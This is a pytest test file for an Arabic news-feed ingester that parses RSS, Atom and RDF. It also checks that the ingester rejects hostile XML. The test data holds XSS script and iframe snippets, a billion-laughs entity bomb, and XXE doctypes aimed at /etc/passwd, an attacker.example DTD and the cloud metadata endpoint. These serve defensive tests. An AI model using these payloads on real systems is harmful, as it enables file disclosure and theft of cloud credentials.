"""hadath.ingest.feeds: RSS and Atom files, their entries, and hostile XML."""
from __future__ import annotations

import gzip
import io
import time
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hadath.ingest import ArticleInput, IngestOptions, InputProblem, read_inputs
from hadath.ingest.feeds import looks_like_feed, read_feed, root_name, xml_problem
from tests.ingest_helpers import billion_laughs, only_problem

AR = "قال وزير الخارجية إن المحادثات مع الجانب الآخر ستستأنف الأسبوع المقبل في العاصمة."
AR2 = "وأضاف أن الحكومة ترفض أي تدخل خارجي في شؤونها الداخلية."
EN = "The foreign minister said talks with the other side would resume next week in the capital."
BOMB_MESSAGE = "refused: XML with entity declarations (possible XML bomb)"

RSS = f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
  <title>وكالة المثال</title>
  <link>https://news.example.org/</link>
  <item>
    <title>اتفاق على &lt;b&gt;تبادل&lt;/b&gt; الأسرى</title>
    <link>https://news.example.org/ar/1</link>
    <guid isPermaLink="false">news-1</guid>
    <pubDate>Tue, 21 Nov 2023 01:30:00 +0300</pubDate>
    <description>ملخص قصير</description>
    <content:encoded><![CDATA[<p>{AR}</p><script>alert('SCRIPT-LEAK')</script>
      <style>p {{ color: red }} STYLE-LEAK</style><p onclick="HANDLER-LEAK()">{AR2}</p>
      <iframe src="javascript:alert('IFRAME-LEAK')">IFRAME-LEAK</iframe>]]></content:encoded>
  </item>
  <item>
    <title>خبر ثان</title>
    <link>https://news.example.org/ar/2</link>
    <description>&lt;p&gt;{AR2}&lt;/p&gt;&lt;script&gt;document.write('ESCAPED-LEAK')&lt;/script&gt;</description>
    <pubDate>الثلاثاء 21 نوفمبر 2023</pubDate>
  </item>
  <item><title>English</title><description>{EN}</description></item>
  <item><title>بلا نص</title><link>https://news.example.org/ar/4</link></item>
</channel>
</rss>"""

ATOM = f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>أطلس الأخبار</title>
  <link href="https://atlas.example.net/"/>
  <entry>
    <id>tag:atlas.example.net,2023:1</id>
    <title type="html">عنوان &lt;em&gt;مهم&lt;/em&gt;</title>
    <updated>2023-11-21T08:00:00+02:00</updated>
    <link href="https://atlas.example.net/1"/>
    <content type="html">&lt;p&gt;{AR}&lt;/p&gt;&lt;script&gt;alert("ATOM-LEAK")&lt;/script&gt;</content>
  </entry>
  <entry>
    <id>tag:atlas.example.net,2023:2</id>
    <title>نص فقط</title>
    <published>2023-11-20T23:59:00Z</published>
    <content type="text">{AR2}</content>
  </entry>
</feed>"""

RDF = f"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
  <channel rdf:about="https://rdf.example/"><title>قناة</title><link>https://rdf.example/</link></channel>
  <item rdf:about="https://rdf.example/1"><title>عنوان</title><link>https://rdf.example/1</link>
    <description>{AR}</description></item>
</rdf:RDF>"""

LAUGHS = billion_laughs("rss", """<rss version="2.0"><channel><title>t</title><item><title>&lol9;</title><description>BODY &lol9;</description></item>
</channel></rss>""")


def read(paths, options=IngestOptions(), stdin=None):
    return list(read_inputs([str(p) for p in paths], options, stdin=stdin))


def write(path: Path, data) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path



# --- good feeds -------------------------------------------------------------------

def test_rss_entries_fields_and_problems(tmp_path):
    path = write(tmp_path / "wire.rss", RSS)
    items = read([path])
    first, second, english, empty = items
    assert isinstance(first, ArticleInput) and isinstance(second, ArticleInput)
    assert first.text == f"{AR}\n{AR2}"
    assert first.title == "اتفاق على تبادل الأسرى"
    assert first.published == "2023-11-21T01:30:00+03:00"        # the feed's local date is kept
    assert first.url == "https://news.example.org/ar/1"
    assert first.source == "وكالة المثال"
    assert first.origin == f"{path}#1" and second.origin == f"{path}#2"
    assert first.id.startswith("wire:") and len(first.id) == len("wire:") + 12
    assert second.text == AR2
    assert second.published == "الثلاثاء 21 نوفمبر 2023"           # left for hadath.dates
    assert (english.origin, english.message) == (str(path), "entry 3: not Arabic text (0% Arabic letters)")
    assert (empty.origin, empty.message) == (str(path), "entry 4: no text")


def test_script_and_style_never_reach_the_text(tmp_path):
    for name, feed in (("a.rss", RSS), ("b.atom", ATOM)):
        for item in read([write(tmp_path / name, feed)]):
            if isinstance(item, ArticleInput):
                for field in (item.text, item.title or ""):
                    assert "LEAK" not in field and "alert" not in field and "<" not in field, field


def test_ids_are_stable_across_runs_and_unique_within_one(tmp_path):
    path = write(tmp_path / "wire.rss", RSS)
    once = [a.id for a in read([path]) if isinstance(a, ArticleInput)]
    again = [a.id for a in read([path]) if isinstance(a, ArticleInput)]
    assert once == again and len(set(once)) == 2
    twice = [a.id for a in read([path, path]) if isinstance(a, ArticleInput)]
    assert twice == once + [f"{once[0]}~2", f"{once[1]}~2"]


def test_atom_feed(tmp_path):
    path = write(tmp_path / "atlas.atom", ATOM)
    first, second = read([path])
    assert first.text == AR and first.title == "عنوان مهم"
    assert first.published == "2023-11-21T08:00:00+02:00"
    assert first.url == "https://atlas.example.net/1" and first.source == "أطلس الأخبار"
    assert second.text == AR2 and second.published == "2023-11-20T23:59:00+00:00"
    assert second.url is None                                   # its id is a tag: URI, not a link


def test_rdf_feed_and_xml_extension(tmp_path):
    article = read([write(tmp_path / "channel.xml", RDF)])[0]
    assert isinstance(article, ArticleInput) and article.text == AR
    assert article.url == "https://rdf.example/1"


def test_source_falls_back_to_the_feed_host(tmp_path):
    feed = f'<rss version="2.0"><channel><link>https://host.example/</link><item><description>{AR}</description>' \
           "</item></channel></rss>"
    (article,) = read([write(tmp_path / "f.rss", feed)])
    assert article.source == "host.example"


def test_rss_091_doctype_is_allowed(tmp_path):
    feed = ('<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
            f'<rss version="0.91"><channel><title>قديم</title><item><title>ع</title><link>https://o.example/1</link>'
            f"<description>{AR}</description></item></channel></rss>")
    (article,) = read([write(tmp_path / "old.rss", feed)])
    assert article.text == AR


def test_gzipped_feed_stdin_and_directory(tmp_path):
    assert [type(i).__name__ for i in read([write(tmp_path / "wire.rss.gz", gzip.compress(RSS.encode()))])][:2] == \
        ["ArticleInput", "ArticleInput"]
    (article,) = read(["-"], stdin=io.BytesIO(b"\n  " + RDF.encode()))
    assert article.origin == "<stdin>#1" and article.id.startswith("stdin:")
    (article,) = read(["-"], stdin=io.BytesIO(gzip.compress(RDF.encode())))
    assert article.text == AR
    root = tmp_path / "feeds"
    write(root / "a.atom", ATOM)
    write(root / "b.xml", RDF)
    write(root / "notes.md", "x")
    assert [i.origin for i in read([root])] == [f"{root / 'a.atom'}#1", f"{root / 'a.atom'}#2", f"{root / 'b.xml'}#1"]


def test_malformed_feed_is_read_leniently(tmp_path):
    broken = RSS.replace("</channel>", "").replace("<title>English</title>", "<title>English &nbsp;</title>")
    articles = [i for i in read([write(tmp_path / "broken.rss", broken)]) if isinstance(i, ArticleInput)]
    assert [a.text.split("\n")[0] for a in articles] == [AR, AR2]


def test_control_characters_and_odd_encodings_do_not_break_reading(tmp_path):
    content = f"&lt;p title='a&amp;#1;b'&gt;{AR}&amp;#1;&lt;script&gt;x()&lt;/script&gt;&amp;#2;{AR2}&lt;/p&gt;"
    feed = f'<rss version="2.0"><channel><item><description>{content}</description></item></channel></rss>'
    (article,) = read([write(tmp_path / "ctl.rss", feed)])
    assert AR in article.text and AR2 in article.text and "x()" not in article.text
    odd = f'<?xml version="1.0" encoding="uf-8"?><rss version="2.0"><channel><item><description>{AR}' \
          "</description></item></channel></rss>"
    items = read([write(tmp_path / "odd.rss", odd)])
    assert items and all(isinstance(i, (ArticleInput, InputProblem)) for i in items)


# --- refusals -----------------------------------------------------------------------

def test_billion_laughs_is_refused_quickly_with_bounded_memory(tmp_path):
    path = write(tmp_path / "bomb.rss", LAUGHS.replace("BODY", AR))
    tracemalloc.start()
    try:
        start = time.perf_counter()
        item = only_problem(read([path]))
        elapsed = time.perf_counter() - start
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert item.message == BOMB_MESSAGE
    assert elapsed < 1.0
    assert peak < 5_000_000


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
    '<!DOCTYPE rss [<!ENTITY xxe PUBLIC "-//x//y" "http://169.254.169.254/latest/meta-data/">]>',
    '<!DOCTYPE rss [<!ENTITY harmless "just text">]>',
])
def test_entity_declarations_are_refused(tmp_path, doctype):
    feed = f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><item><description>{AR} &xxe;' \
           "</description></item></channel></rss>"
    assert only_problem(read([write(tmp_path / "xxe.rss", feed)])).message == BOMB_MESSAGE


def test_entities_in_malformed_or_utf16_xml_are_refused():
    junk_first = b"\x01 junk <!DOCTYPE rss [<!ENTITY a 'b'>]><rss/>"
    assert xml_problem(junk_first) == BOMB_MESSAGE
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]><rss>&a;</rss>').encode("utf-16")
    assert xml_problem(utf16) == BOMB_MESSAGE
    assert xml_problem(RSS.encode()) is None


def test_not_a_feed(tmp_path):
    assert only_problem(read([write(tmp_path / "sitemap.xml", '<?xml version="1.0"?><urlset><url/></urlset>')])) \
        .message == "not an RSS or Atom feed (root element <urlset>)"
    assert only_problem(read([write(tmp_path / "junk.xml", "just words")])).message == "not an RSS or Atom feed"
    assert only_problem(read([write(tmp_path / "empty.rss", "")])).message == "empty file"
    assert only_problem(read([write(tmp_path / "none.rss", '<rss version="2.0"><channel><title>t</title>'
                                                          "</channel></rss>")])).message == "feed has no entries"


def test_feed_size_cap(tmp_path):
    path = write(tmp_path / "big.rss", RSS)
    item = only_problem(read([path], IngestOptions(max_bytes=100)))
    assert item.message.startswith("feed file too large: ") and item.message.endswith("(raise --max-bytes)")
    stdin = io.BytesIO(RSS.encode())
    assert only_problem(read(["-"], IngestOptions(max_bytes=100), stdin=stdin)).message == \
        "feed too large: more than 1 KB limit (raise --max-bytes)"
    entry = RSS.replace(AR, AR * 30)
    items = read([write(tmp_path / "long.rss", entry)], IngestOptions(max_bytes=2000))
    assert items[0].message.startswith("entry 1: article too large: ")


def test_sniffing_the_root_element():
    assert looks_like_feed(b'<?xml version="1.0"?>\n<!-- <html> -->\n<rss version="2.0">')
    assert looks_like_feed(b'<?xml version="1.0"?><!DOCTYPE feed [<!ELEMENT feed ANY>]><feed xmlns="x">')
    assert looks_like_feed('<rdf:RDF xmlns:rdf="x">'.encode("utf-16"))
    assert not looks_like_feed(b"<!DOCTYPE html><html><body>")
    assert not looks_like_feed(b"<!-- never closed <rss>")
    assert root_name(b"<" * 100_000) is None
    start = time.perf_counter()
    root_name(b"<!--" * 50_000)
    assert time.perf_counter() - start < 0.5


def test_read_feed_directly():
    items = list(read_feed(ATOM.encode(), "mem", "mem", IngestOptions()))
    assert [i.origin for i in items] == ["mem#1", "mem#2"]


# --- robustness ---------------------------------------------------------------------

@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(prefix=st.sampled_from([b"", b'<?xml version="1.0"?><rss version="2.0"><channel><item><description>',
                               b"<feed xmlns='http://www.w3.org/2005/Atom'><entry><content type='html'>",
                               b"<!DOCTYPE rss ["]),
       body=st.binary(max_size=400))
def test_feed_reader_never_raises_on_random_bytes(prefix, body):
    items = list(read_feed(prefix + body, "fuzz.rss", "fuzz", IngestOptions()))
    assert items and all(isinstance(i, (ArticleInput, InputProblem)) for i in items)
